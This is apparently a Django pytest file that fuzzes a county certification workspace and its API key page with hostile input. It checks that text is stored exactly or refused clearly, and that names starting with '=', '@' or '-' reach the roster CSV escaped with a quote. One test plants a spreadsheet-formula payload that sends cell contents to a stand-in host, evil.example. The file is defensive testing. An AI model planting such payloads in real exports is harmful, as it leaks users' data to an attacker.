"""Hostile text in every form of the county workspace and the API key page,
posted by the Alameda administrator: never a server error; invalid input is shown on the
form; a decision that is taken stores its text exactly as typed (less surrounding spaces), and
text with NUL or longer than the form allows is never stored. Each example starts from the
same world: it runs in a savepoint that is rolled back."""

import csv
import datetime
import io
from collections.abc import Callable
from dataclasses import dataclass, field

import pytest
from django.db import transaction
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from accounts.models import ApiToken
from audit.models import AuditEvent
from ce_audits.models import CeAudit
from certification.models import Application, Certification
from counties.models import County, CountyMembership, OptInPeriod, StaffInvitation
from documents.models import Document
from tests.portal.conftest import client_for
from tests.security.hostile import (
    HOSTILE,
    STORABLE,
    UNSTORABLE,
    assert_answered,
    assert_refused_clearly,
    has_nul,
    hostile_text,
    some_hostile,
    stored_text,
)
from tests.workspace.conftest import World, world  # noqa: F401 (a fixture)
from training.models import TrainingRecord

pytestmark = pytest.mark.django_db

TEXT_LIMIT = 2000


class _Undo(Exception):
    """Raised to roll an example's changes back."""


@dataclass(frozen=True)
class Action:
    url: Callable[[World], str]
    valid: dict[str, str]
    verb: str  # the audit verb written when the action is taken
    saved: Callable[[World], str] | None = None  # the text stored by the action
    text: str = ""  # the free-text field stored
    limits: dict[str, int] = field(default_factory=dict)


def _ws(name: str, *args) -> str:
    return reverse(f"workspace:{name}", args=["alameda", *args])


ACTIONS = {
    "request_changes": Action(
        url=lambda w: _ws("application_request_changes", w.in_review.pk),
        valid={"parts": "photo_id", "message": "The ID is blurry.", "version": "in_review"},
        verb="application_request_changes",
        saved=lambda w: Application.objects.get(pk=w.in_review.pk).changes_requested_message,
        text="message",
    ),
    "deny": Action(
        url=lambda w: _ws("application_deny", w.in_review.pk),
        valid={"reason": "Not eligible.", "version": "in_review"},
        verb="application_deny",
        saved=lambda w: Application.objects.get(pk=w.in_review.pk).decision_reason,
        text="reason",
    ),
    "start_review": Action(
        url=lambda w: _ws("application_start_review", w.submitted.pk),
        valid={"version": "submitted"},
        verb="application_start_review",
    ),
    "exam_record": Action(
        url=lambda w: _ws("exam_record", w.approved.pk),
        valid={"taken_on": "today", "result": "passed", "scaled_score": "512"},
        verb="exam_attempt_record",
    ),
    "document_review": Action(
        url=lambda w: _ws("document_review", w.submitted.pk, w.document.pk),
        valid={"decision": "reject", "reason": "Unreadable."},
        verb="document_review",
        saved=lambda w: Document.objects.get(pk=w.document.pk).review_reason,
        text="reason",
    ),
    "training_review": Action(
        url=lambda w: _ws("training_review", w.submitted.pk, w.training_record.pk),
        valid={"decision": "reject", "reason": "Not an approved course."},
        verb="training_record_reject",
        saved=lambda w: TrainingRecord.objects.get(pk=w.training_record.pk).reason,
        text="reason",
    ),
    "suspend": Action(
        url=lambda w: _ws("certification_suspend", w.active.pk),
        valid={"reason": "Complaint under investigation."},
        verb="certification_suspend",
        saved=lambda w: Certification.objects.get(pk=w.active.pk).status_reason,
        text="reason",
    ),
    "revoke": Action(
        url=lambda w: _ws("certification_revoke", w.suspended.pk),
        valid={"reason": "Ethics violation upheld."},
        verb="certification_revoke",
        saved=lambda w: Certification.objects.get(pk=w.suspended.pk).status_reason,
        text="reason",
    ),
    "lift_suspension": Action(
        url=lambda w: _ws("certification_lift_suspension", w.suspended.pk),
        valid={"reason": "Cleared."},
        verb="certification_lift_suspension",
        saved=lambda w: (
            AuditEvent.objects.filter(verb="certification_lift_suspension").latest("pk").reason
        ),
        text="reason",
    ),
    "opt_in": Action(
        url=lambda w: _ws("opt_in"),
        valid={
            "delivery_system": "dmc",
            "opted_in": "true",
            "effective_from": "today",
            "reason": "Board resolution 2025-14.",
        },
        verb="county_opt_in_change",
        saved=lambda w: OptInPeriod.objects.latest("pk").reason,
        text="reason",
    ),
    "contact": Action(
        url=lambda w: _ws("contact"),
        valid={"contact_hours": "Monday to Friday, 9 to 4", "contact_email": "p@alameda.example"},
        verb="county_contact_update",
        saved=lambda w: County.objects.get(code="alameda").contact_hours,
        text="contact_hours",
        limits={"contact_hours": 200},
    ),
    "invite": Action(
        url=lambda w: _ws("staff"),
        valid={"email": "new.person@example.org", "role": "reviewer"},
        verb="staff_invite",
        saved=lambda w: StaffInvitation.objects.latest("pk").email,
        text="email",
        limits={"email": 254},
    ),
    "membership_role": Action(
        url=lambda w: _ws("membership_role", w.reviewer_membership.pk),
        valid={"role": "admin"},
        verb="membership_set",
    ),
    "ce_audit_draw": Action(
        url=lambda w: _ws("ce_audit_draw"), valid={"percent": "10"}, verb="ce_audit_draw"
    ),
    "ce_audit_outcome": Action(
        url=lambda w: _ws("ce_audit", w.ce_audit.pk),
        valid={"outcome": "failed", "note": "No certificates sent."},
        verb="ce_audit_record_outcome",
        saved=lambda w: CeAudit.objects.get(pk=w.ce_audit.pk).outcome_note,
        text="note",
    ),
}


@pytest.fixture
def workspace(cast, settings, world):  # noqa: F811 (the fixture imported above)
    """The Alameda administrator's client and the workspace tests' world."""
    settings.STAFF_MFA_REQUIRED = False
    return client_for(cast.admin), world


def _posted(scene: World, values: dict[str, str]) -> dict[str, str]:
    """The values with the placeholders of `Action.valid` filled in."""
    today = datetime.date.today().isoformat()
    versions = {
        "in_review": lambda: Application.objects.get(pk=scene.in_review.pk).version,
        "submitted": lambda: Application.objects.get(pk=scene.submitted.pk).version,
    }
    posted = {}
    for name, value in values.items():
        if name == "version" and value in versions:
            value = str(versions[value]())
        elif value == "today":
            value = today
        posted[name] = value
    return posted


def _check(action: Action, scene: World, client, values: dict[str, str]) -> None:
    before = set(AuditEvent.objects.filter(verb=action.verb).values_list("pk", flat=True))

    response = client.post(action.url(scene), _posted(scene, values))

    assert_answered(response)
    taken = AuditEvent.objects.filter(verb=action.verb).exclude(pk__in=before).exists()
    text = values.get(action.text, "")
    limit = action.limits.get(action.text, TEXT_LIMIT)
    if taken:
        assert not has_nul(text) and len(stored_text(text)) <= limit
        if action.saved is not None:
            assert action.saved(scene) == stored_text(text)
    elif response.status_code != 302:  # a conflict redirects with its message
        assert_refused_clearly(response)


@pytest.mark.parametrize("name", sorted(ACTIONS))
def test_workspace_actions_store_text_exactly_or_refuse_it(name, workspace):
    admin_client, scene = workspace
    action = ACTIONS[name]

    @HOSTILE
    @given(values=some_hostile(action.valid))
    def run(values):
        try:
            with transaction.atomic():
                _check(action, scene, admin_client, values)
                raise _Undo
        except _Undo:
            pass

    run()


@pytest.mark.parametrize("name", sorted(n for n, a in ACTIONS.items() if a.saved is not None))
def test_workspace_actions_refuse_unstorable_text_and_keep_the_rest_exactly(name, workspace):
    admin_client, scene = workspace
    action = ACTIONS[name]
    for typed in (UNSTORABLE, "x" * 10_000):
        before = AuditEvent.objects.count()

        response = admin_client.post(
            action.url(scene), _posted(scene, {**action.valid, action.text: typed})
        )

        assert response.status_code == 200
        assert response.context["form"].errors[action.text]
        assert f'id="id_{action.text}_error"' in response.content.decode()
        assert AuditEvent.objects.count() == before
    typed = "storable@example.org" if action.text == "email" else STORABLE
    taken = AuditEvent.objects.filter(verb=action.verb).count()

    response = admin_client.post(
        action.url(scene), _posted(scene, {**action.valid, action.text: typed})
    )

    assert response.status_code == 302
    assert AuditEvent.objects.filter(verb=action.verb).count() == taken + 1
    assert action.saved(scene) == typed


@HOSTILE
@given(
    page=st.sampled_from(["dashboard", "roster", "roster_csv", "ce_audits"]),
    params=st.dictionaries(
        st.sampled_from(["q", "status", "specialization", "expiring", "page", "show"]),
        hostile_text,
        max_size=4,
    ),
)
def test_workspace_filters_ignore_hostile_values(workspace, page, params):
    response = workspace[0].get(_ws(page), params)

    assert response.status_code == 200
    if page == "roster_csv":
        b"".join(response.streaming_content)


@HOSTILE
@given(token=hostile_text.filter(lambda t: "/" not in t and t.strip()))
def test_an_unknown_import_token_is_a_404(workspace, token):
    response = workspace[0].get(_ws("exam_import_preview", token))

    assert response.status_code == 404


@HOSTILE
@given(values=some_hostile({"name": "Roster sync", "days": "30"}), revoke=hostile_text)
def test_api_keys_store_their_name_exactly_or_refuse_it(cast, settings, values, revoke):
    settings.STAFF_MFA_REQUIRED = False
    client = client_for(cast.state)
    before = set(ApiToken.objects.values_list("pk", flat=True))

    response = client.post(reverse("api_tokens"), values)
    revoked = client.post(reverse("api_tokens"), {"revoke": revoke})

    assert_answered(response)
    assert revoked.status_code == 302
    created = ApiToken.objects.exclude(pk__in=before)
    if created.exists():
        assert not has_nul(values["name"]) and len(stored_text(values["name"])) <= 100
        assert created.get().name == stored_text(values["name"])
    else:
        assert_refused_clearly(response)
    assert not CountyMembership.objects.filter(user=cast.state).exists()


def test_names_that_spreadsheets_would_run_as_formulas_reach_the_roster_csv_as_text(workspace):
    admin_client, scene = workspace
    Certification.objects.filter(pk=scene.active.pk).update(
        first_name='=HYPERLINK("http://evil.example/?"&A1,"Open")', last_name="@SUM(1+1)"
    )
    Certification.objects.filter(pk=scene.expired.pk).update(first_name="-2+3", last_name="Lee")

    response = admin_client.get(_ws("roster_csv"))

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    names = {(row[2], row[3]) for row in rows[1:]}
    assert ('\'=HYPERLINK("http://evil.example/?"&A1,"Open")', "'@SUM(1+1)") in names
    assert ("'-2+3", "Lee") in names
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row[2:4])
